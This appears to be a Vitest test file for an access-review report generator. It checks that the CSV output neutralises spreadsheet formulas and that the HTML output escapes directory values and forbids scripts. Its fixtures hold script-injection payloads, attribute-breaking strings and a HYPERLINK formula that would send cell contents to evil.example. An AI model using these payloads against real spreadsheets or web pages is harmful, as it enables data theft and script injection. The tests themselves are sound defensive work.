import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { escapeHtml, reviewCsv, reviewHtml } from '../../activities/review-report.ts';
import { headlessChromium } from '../support/chromium.ts';
import { campaignHeader, reviewEntry } from '../support/review-entries.ts';

const hostile = '<script>alert(1)</script>';

const entries = [
  reviewEntry(1, {
    username: 'root-admin@example.com',
    privileged: true,
    mfa: false,
    displayName: hostile,
    flags: { owner: { employeeId: 'E-1', email: 'ada@example.com', displayName: 'Ada', status: 'active', joinedBy: 'template {username}@<b>example.com' } },
  }),
  reviewEntry(2, {
    username: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    displayName: 'Smith, "Bobby"\nJr.',
    lastLoginAt: null,
    flags: { inactive: true, leaver: { employeeId: 'E-9', terminationDate: '2026-09-30T00:00:00.000Z' }, orphan: false },
    decision: 'revoke',
    reason: 'left 2026-09-30',
    decidedBy: 'it-lead@example.com',
    decidedAt: '2026-10-02T09:00:00.000Z',
    verification: 'not-effective',
  }),
  reviewEntry(3, {
    system: 'aws-prod',
    reviewer: 'cloud-lead@example.com',
    tenant: '111111111111',
    username: '@svc-deploy',
    mfa: 'unknown',
    lastLoginAt: 'unknown',
    flags: { serviceAccount: true, orphan: null },
  }),
];

describe('access review CSV', () => {
  it('is RFC 4180 with a byte-order mark, one row per entry, every flag spelled out', () => {
    const csv = reviewCsv(entries);
    expect(csv.startsWith('\uFEFFentry,system,reviewer,')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(3);
    expect(rows[0]).toMatchObject({
      entry: '1',
      account: 'root-admin@example.com',
      'display name': hostile,
      privileged: 'yes',
      mfa: 'no',
      'owner (HR)': 'E-1 ada@example.com',
      'joined by': 'template {username}@<b>example.com',
      orphan: 'unknown (no HR source)',
      decision: '',
    });
    expect(rows[1]).toMatchObject({
      'display name': 'Smith, "Bobby"\nJr.',
      'last login': 'never',
      'joined by': '',
      inactive: 'yes',
      leaver: 'E-9 terminated 2026-09-30T00:00:00.000Z',
      orphan: 'no',
      decision: 'revoke',
      reason: 'left 2026-09-30',
      'decided by': 'it-lead@example.com',
      'revocation verified': 'not-effective',
    });
    expect(rows[2]).toMatchObject({
      system: 'aws-prod',
      reviewer: 'cloud-lead@example.com',
      mfa: 'unknown',
      'last login': 'unknown',
      'service account': 'yes',
    });
  });

  it('keeps cells a spreadsheet would run as formulas as text', () => {
    const rows = parseCsv(reviewCsv(entries), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows[1]!['account']).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(rows[2]!['account']).toBe(`'@svc-deploy`);
    expect(rows[0]!['account']).toBe('root-admin@example.com');
  });
});

describe('access review HTML', () => {
  const html = reviewHtml(campaignHeader, entries);

  it('escapes every value from the directory, in text and in attributes', () => {
    expect(html).not.toContain(hostile);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)');
    expect(html).toContain('Smith, &quot;Bobby&quot;\nJr.');
    expect(escapeHtml(`<a href='x' title="y">&</a>`)).toBe('&lt;a href=&#39;x&#39; title=&quot;y&quot;&gt;&amp;&lt;/a&gt;');
    const attribute = reviewHtml(campaignHeader, [reviewEntry(1, { system: `g"><script>alert(2)</script>`, reviewer: `r' onmouseover='x` })]);
    expect(attribute).toContain('data-system="g&quot;&gt;&lt;script&gt;alert(2)&lt;/script&gt;"');
    expect(attribute).toContain('data-reviewer="r&#39; onmouseover=&#39;x"');
    expect(attribute).not.toMatch(/<script/i);
  });

  it('is self-contained: no script, no external resource, and a policy that forbids both', () => {
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">`);
    expect(html).not.toMatch(/<script|<link|<img|src=|href=/i);
  });

  it('groups entries in one section per system and reviewer, marking those that need attention', () => {
    const sections = [...html.matchAll(/<section data-system="([^"]*)" data-reviewer="([^"]*)">/g)].map((match) => [match[1], match[2]]);
    expect(sections).toEqual([
      ['google', 'it-lead@example.com'],
      ['aws-prod', 'cloud-lead@example.com'],
    ]);
    expect(html).toMatch(/<tr class="attention" data-entry="1">.*<span class="flag">privileged<\/span><span class="flag">no MFA<\/span>/);
    expect(html).toMatch(/<tr class="attention" data-entry="2">.*<span class="flag">inactive<\/span><span class="flag">leaver<\/span>/s);
    // A service account alone is information, not a warning.
    expect(html).toMatch(/<tr data-entry="3">/);
    expect(html).toContain('<p>2 accounts, 1 privileged, 1 decided.</p>');
  });

  it("shows how the owner was found, escaped, under the owner's name", () => {
    expect(html).toMatch(
      /<td>E-1<br><span class="muted">ada@example\.com<\/span><br><span class="muted">by template \{username\}@&lt;b&gt;example\.com<\/span><\/td>/,
    );
  });

  it('says so when there is nothing to review', () => {
    expect(reviewHtml(campaignHeader, [])).toContain('<p>No active accounts to review.</p>');
  });
});

describe('access review HTML in a browser', { tags: ['chromium'] }, () => {
  const dir = mkdtempSync(path.join(tmpdir(), 'isms-review-html-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('renders the review table in headless Chromium with the hostile display name as text, not as a script', async () => {
    const file = path.join(dir, 'review.html');
    writeFileSync(file, reviewHtml(campaignHeader, entries));
    const stdout = await headlessChromium(file, path.join(dir, 'profile'), ['--dump-dom']);
    // The DOM after parsing: two tables with their rows, and the payload only ever as text.
    expect(stdout.match(/<table>/g)).toHaveLength(2);
    expect([...stdout.matchAll(/<tr[^>]* data-entry="(\d+)"/g)].map((match) => match[1])).toEqual(['1', '2', '3']);
    expect(stdout).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(stdout).not.toMatch(/<script/i);
    expect(stdout).toContain('<h2>google: reviewer it-lead@example.com</h2>');
  }, 90_000);
});
